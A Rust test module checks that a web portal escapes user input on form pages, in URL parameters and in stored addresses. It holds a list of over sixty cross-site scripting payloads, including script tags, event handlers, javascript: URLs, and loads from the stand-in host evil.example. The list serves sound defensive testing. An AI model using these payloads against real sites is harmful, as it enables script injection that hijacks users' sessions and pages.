//! Script injection (`docs/rules.md`, C33): whatever somebody types stays text, wherever the portal shows it again. Escaping itself
//! has to hold, so the policy that would stop a script is not counted on.

use super::once;
use super::stages::{Place, Stages, body, encoded};
use crate::kernel::route::Route;
use crate::testing::web::{Answer, App, Browser, nik};

/// Stands in every payload, where it would do something.
const MARK: &str = "zq7x";

const PAYLOADS: &[&str] = &[
    r##"<script>zq7x()</script>"##,
    r##"<script id=zq7x src=//evil.example/x.js></script>"##,
    r##"<SCRIPT ID="zq7x">1</SCRIPT>"##,
    r##"<script/zq7x>1</script>"##,
    r##"<scr<script zq7x>ipt></scr</script>ipt>"##,
    r##"</script><script>zq7x()</script>"##,
    r##"</script><img src=x onerror=zq7x()>"##,
    r##"<img src=x onerror=zq7x()>"##,
    r##"<img src="x" onerror="zq7x()">"##,
    r##"<img src='x' onerror='zq7x()'>"##,
    r##"<img/src=x/onerror=zq7x()>"##,
    r##"<IMG SRC=x OnErRoR=zq7x()>"##,
    r##"<svg onload=zq7x()>"##,
    r##"<svg/onload=zq7x()>"##,
    r##"<svg><script>zq7x()</script></svg>"##,
    r##"<svg><animate onbegin=zq7x() attributeName=x dur=1s>"##,
    r##"<math><mtext><a xlink:href="javascript:zq7x()">x</a></mtext></math>"##,
    r##"<body onload=zq7x()>"##,
    r##"<iframe src="javascript:zq7x()"></iframe>"##,
    r##"<iframe srcdoc="<script>zq7x()</script>"></iframe>"##,
    r##"<object data="javascript:zq7x()"></object>"##,
    r##"<embed src="javascript:zq7x()">"##,
    r##"<a href="javascript:zq7x()">x</a>"##,
    r##"<a href="&#106;avascript:zq7x()">x</a>"##,
    r##"<form action="javascript:zq7x()"><button>x</button></form>"##,
    r##"<button formaction="javascript:zq7x()">x</button>"##,
    r##"<input autofocus onfocus=zq7x()>"##,
    r##"<select autofocus onfocus=zq7x()></select>"##,
    r##"<textarea autofocus onfocus=zq7x()></textarea>"##,
    r##"<details open ontoggle=zq7x()>"##,
    r##"<video src=x onerror=zq7x()></video>"##,
    r##"<audio src=x onerror=zq7x()></audio>"##,
    r##"<marquee onstart=zq7x()>"##,
    r##"<style>@import '//evil.example/zq7x';</style>"##,
    r##"<link rel=stylesheet href="//evil.example/zq7x">"##,
    r##"<meta http-equiv=refresh content="0;url=javascript:zq7x()">"##,
    r##"<base href="//evil.example/zq7x/">"##,
    r##"<template><script>zq7x()</script></template>"##,
    r##"<noscript><img src=x onerror=zq7x()></noscript>"##,
    r##"<!--zq7x--><script>zq7x()</script>"##,
    r##"--><script>zq7x()</script><!--"##,
    r##"]]><script>zq7x()</script>"##,
    r##""><script>zq7x()</script>"##,
    r##"'><script>zq7x()</script>"##,
    r##"" autofocus onfocus="zq7x()"##,
    r##"' autofocus onfocus='zq7x()"##,
    r##"" onmouseover=zq7x() x=""##,
    r##"` onmouseover=zq7x() x=`"##,
    r##"x onclick=zq7x()"##,
    r##"javascript:zq7x()"##,
    r##"JaVaScRiPt:zq7x()"##,
    r##"data:text/html,<script>zq7x()</script>"##,
    r##"//evil.example/zq7x"##,
    r##"\"-zq7x()-\""##,
    r##"';zq7x();//"##,
    r##"${zq7x()}"##,
    r##"{{constructor.constructor('zq7x()')()}}"##,
    r##"\u003cscript\u003ezq7x()\u003c/script\u003e"##,
    r##"%3Cscript%3Ezq7x()%3C/script%3E"##,
    r##"&lt;script&gt;zq7x()&lt;/script&gt;"##,
    r##"&#60;script&#62;zq7x()&#60;/script&#62;"##,
    r##"</title><script>zq7x()</script>"##,
    r##"</textarea><script>zq7x()</script>"##,
    r##"<zq7x>"##,
];

/// Where on a page the mark was found.
#[derive(Clone, Debug, PartialEq, Eq)]
enum Found {
    Text,
    /// In the value of an attribute: tag, attribute, value.
    Value(String, String, String),
    /// In the name of a tag or of an attribute, or in a value that no quotes hold together.
    Markup(String),
    Comment,
    /// In a script or a style: tag and content.
    Raw(String, String),
}

/// Reads a page as a browser does, as far as it matters where a text ends up.
fn find(html: &str) -> Vec<Found> {
    let mut found = Vec::new();
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        if rest[..at].contains(MARK) {
            found.push(Found::Text);
        }
        rest = &rest[at + 1..];
        if let Some(comment) = rest.strip_prefix("!--") {
            let end = comment.find("-->").unwrap_or(comment.len());
            found.extend(comment[..end].contains(MARK).then_some(Found::Comment));
            rest = comment.get(end + 3..).unwrap_or_default();
        } else if rest.starts_with(|char: char| char.is_ascii_alphabetic() || char == '/' || char == '!') {
            let name = tag(&mut rest, &mut found);
            if matches!(name.as_str(), "script" | "style") {
                let end = rest.to_ascii_lowercase().find(&format!("</{name}")).unwrap_or(rest.len());
                found.extend(rest[..end].contains(MARK).then(|| Found::Raw(name, rest[..end].to_owned())));
                rest = &rest[end..];
            }
        }
    }
    found.extend(rest.contains(MARK).then_some(Found::Text));
    found
}

/// Reads a tag up to behind its `>`; answers its name.
fn tag(rest: &mut &str, found: &mut Vec<Found>) -> String {
    let ends = |char: char| char.is_ascii_whitespace() || char == '>' || char == '/';
    let start = usize::from(rest.starts_with('/'));
    let name_end = rest[start..].find(ends).map_or(rest.len(), |end| start + end);
    let name = rest[..name_end].to_ascii_lowercase();
    found.extend(name.contains(MARK).then(|| Found::Markup(name.clone())));
    *rest = &rest[name_end..];
    loop {
        *rest = rest.trim_start_matches(|char: char| char.is_ascii_whitespace() || char == '/');
        if rest.is_empty() || rest.starts_with('>') {
            *rest = rest.get(1..).unwrap_or_default();
            return name;
        }
        let end = rest.find(|char: char| ends(char) || char == '=').unwrap_or(rest.len()).max(1);
        let attribute = rest[..end].to_owned();
        *rest = &rest[end..];
        found.extend(attribute.contains(MARK).then(|| Found::Markup(attribute.clone())));
        let Some(value) = rest.strip_prefix('=') else { continue };
        let quote = value.chars().next().filter(|char| matches!(char, '"' | '\''));
        let (text, after) = match quote {
            Some(quote) => value[1..].split_once(quote).unwrap_or((&value[1..], "")),
            None => value.split_at(value.find(|char: char| char.is_ascii_whitespace() || char == '>').unwrap_or(value.len())),
        };
        if text.contains(MARK) {
            let place = Found::Value(name.clone(), attribute.clone(), text.to_owned());
            found.push(if quote.is_some() { place } else { Found::Markup(text.to_owned()) });
        }
        *rest = after;
    }
}

/// Whether a text in this place is only a text.
fn is_inert(found: &Found) -> bool {
    match found {
        Found::Text => true,
        Found::Value(_, attribute, value) => match attribute.as_str() {
            "value" | "placeholder" | "aria-label" | "title" => true,
            // An address of the portal's own, or of this page with another query.
            "href" | "action" => value.starts_with('?') || value.starts_with('/') && !value.starts_with("//"),
            name => name.starts_with("data-"),
        },
        // The page's data once more, for the program: no character of it may end the script.
        Found::Raw(tag, content) => tag == "script" && content.contains("__RESOLVED_RESOURCES") && !content.contains('<'),
        Found::Markup(_) | Found::Comment => false,
    }
}

#[track_caller]
fn assert_inert(page: &Answer, told: &str, payload: &str) {
    let bad: Vec<Found> = find(&page.body).into_iter().filter(|found| !is_inert(found)).collect();
    assert!(bad.is_empty(), "{told}: {payload}: {bad:?}");
    let is_markup = payload.contains(['<', '>']);
    assert!(!is_markup || !page.body.contains(payload), "{told}: {payload} stands on the page as it was typed");
    assert!(page.status.as_u16() < 500, "{told}: {payload}");
}

#[test]
fn clause_5_13f_sixty_payloads_that_would_do_something_are_seen_where_they_do() {
    assert!(PAYLOADS.len() >= 60 && PAYLOADS.iter().all(|payload| payload.contains(MARK)));
    for payload in PAYLOADS.iter().filter(|payload| payload.starts_with('<')) {
        let found = find(&format!("<p>{payload}</p>"));
        assert!(found.iter().any(|found| !is_inert(found)), "{payload}: {found:?}");
    }
    for payload in ["\" autofocus onfocus=\"zq7x()", "\"><script>zq7x()</script>"] {
        assert!(find(&format!("<input value=\"{payload}\">")).iter().any(|found| !is_inert(found)), "{payload}");
    }
    for harmless in
        ["<p>zq7x</p>", "<input value=\"zq7x &lt;b\">", "<p title='zq7x'>&lt;script&gt;zq7x", "<a href=\"/masuk?x=zq7x\">"]
    {
        assert!(!find(harmless).is_empty() && find(harmless).iter().all(is_inert), "{harmless}");
    }
}

/// Fills every field of a form with a text and opens the page that shows it again.
async fn shown_again(place: &Place, browser: &mut Browser, text: &str) -> (Answer, Answer) {
    let mut filled = place.filled_in(browser).await;
    for (name, value) in &mut filled {
        if name != "tantangan" {
            text.clone_into(value);
        }
    }
    for name in place.fields.iter().filter(|name| !["tantangan", "captcha"].contains(&name.as_str())) {
        if filled.iter().all(|(other, _)| other != name) {
            filled.push((name.clone(), text.to_owned()));
        }
    }
    let answer = browser.post_body(place.function.path, false, &body(&filled, "", "")).await;
    let page = browser.get(place.form.page.path()).await;
    (answer, page)
}

#[tokio::test]
async fn clause_5_13f_no_payload_leaves_the_field_that_shows_it_again() {
    once(|app| async move {
        let mut stages = Stages::new(app);
        let mut showing = 0;
        for place in stages.places().await {
            stages.forgive().await;
            let (_, page) = shown_again(&place, stages.at(place.stage).await, MARK).await;
            if find(&page.body).is_empty() {
                continue;
            }
            showing += 1;
            for payload in PAYLOADS {
                stages.forgive().await;
                let (answer, page) = shown_again(&place, stages.at(place.stage).await, payload).await;
                let told = place.function.path;
                assert!(answer.location().starts_with('/') && !answer.location().contains(MARK), "{told} {}", answer.location());
                assert!(!find(&page.body).is_empty(), "{told}: {payload} is not shown, so nothing is proven");
                assert_inert(&page, told, payload);
            }
        }
        assert!(showing >= 5, "the fields that keep what was typed");
    })
    .await;
}

#[tokio::test]
async fn clause_5_13f_no_payload_in_an_address_becomes_part_of_a_page() {
    once(|app| async move {
        let mut browsers = [app.browser(), app.inside(crate::testing::web::SARI).await];
        let pages: Vec<&Route> = Route::ALL.iter().filter(|route| !route.sandbox_only()).collect();
        for (at, payload) in PAYLOADS.iter().enumerate() {
            let text = encoded(payload);
            for browser in &mut browsers {
                // Every page with some of the payloads, and every payload on some of the pages.
                for route in pages.iter().skip(at % 4).step_by(4).chain(pages.iter().filter(|route| route.has_parameter())) {
                    let path = route.path().split('{').next().unwrap_or_default();
                    let path = if route.has_parameter() { format!("{path}{}", text.replace('+', "%20")) } else { path.to_owned() };
                    let page = browser.get(&format!("{path}?tujuan={text}&sebelum={text}&{text}={text}")).await;
                    assert_inert(&page, &path, payload);
                }
                let page = browser.get(&format!("/tidak-ada/{}", text.replace('+', "%20"))).await;
                assert_inert(&page, "404", payload);
            }
        }
    })
    .await;
}

/// As many payloads as an address of a person may hold.
fn addresses() -> Vec<String> {
    let mut addresses: Vec<String> = vec![String::new()];
    for payload in PAYLOADS {
        if addresses.last().is_some_and(|address| address.chars().count() + payload.chars().count() >= 199) {
            addresses.push(String::new());
        }
        let last = addresses.last_mut().unwrap();
        *last = format!("{last} {payload}").trim().to_owned();
    }
    addresses
}

#[tokio::test]
async fn clause_5_13f_no_payload_in_what_is_stored_becomes_part_of_a_page() {
    once(|app| async move { stored(&app).await }).await;
}

async fn stored(app: &App) {
    for (number, address) in addresses().iter().enumerate() {
        let (email, nik) = (format!("orang{number}@contoh.example"), nik(&format!("{:04}", number + 1)));
        let mut browser = app.browser();
        browser.begin(&email, &nik).await.leads_to("/daftar/kode");
        browser.prove(&email).await.leads_to("/daftar/data-diri");
        browser.complete(&[("alamat", address)]).await.leads_to("/dasbor");
        for route in Route::ALL.iter().filter(|route| route.needs_session() && !route.has_parameter()) {
            let page = browser.get(route.path()).await;
            assert_inert(&page, route.path(), address);
        }
    }
}
